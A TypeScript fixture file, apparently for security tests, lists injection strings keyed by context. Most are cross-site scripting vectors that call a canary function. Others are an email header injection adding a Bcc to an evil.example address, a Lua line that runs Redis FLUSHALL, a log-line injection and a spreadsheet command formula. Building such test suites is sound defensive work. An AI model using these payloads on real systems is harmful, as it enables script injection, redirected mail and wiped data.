/**
 * Texts that would run, or would become part of something else, wherever they are not shown as mere text. Script that
 * runs calls `kanarya()`; markup that becomes an element has the attribute `data-kanarya`. Short, for a name has 60
 * characters.
 */
export const PAYLOADS: Readonly<Record<string, string>> = {
  'an element': '<img src=x data-kanarya onerror=kanarya()>',
  'a script': '<script data-kanarya>kanarya()</script>',
  'the end of JSON-LD': '</script><script data-kanarya>kanarya()</script>',
  'an attribute': '" data-kanarya onfocus="kanarya()" autofocus x="',
  'an attribute in single quotes': "' data-kanarya onfocus='kanarya()' autofocus x='",
  'an address of a script': 'javascript:kanarya()',
  'an address of a script, spread': 'java\tscript:kanarya()//',
  'a page as address': 'data:text/html,<script>kanarya()</script>',
  'a drawing': '<svg data-kanarya onload=kanarya()>',
  'a frame': '<iframe data-kanarya srcdoc="<script>top.kanarya()">',
  'a style': '</style><style data-kanarya>*{color:red}</style>',
  'a template': "{{constructor.constructor('kanarya()')()}}",
  // eslint-disable-next-line no-template-curly-in-string -- it is what somebody types
  'a template of a script': '${kanarya()}`',
  'a placeholder of words': '{{shop.name}} $t(kanarya) %s %n',
  'wide brackets': '＜img data-kanarya onerror=kanarya()＞',
  'an entity': '&lt;img data-kanarya onerror=kanarya()&gt;',
  'a comment': '--><img data-kanarya src=x onerror=kanarya()>',
  'a header of a letter': 'a\r\nBcc: kanarya@evil.example\r\n\r\nx',
  'a line of the log': 'x"}\n{"level":"error","event":"kanarya"}',
  Lua: "]] redis.call('FLUSHALL') --",
  'a glob': '*[^a]?',
  'a formula': "=cmd|' /C calc'!A0",
};
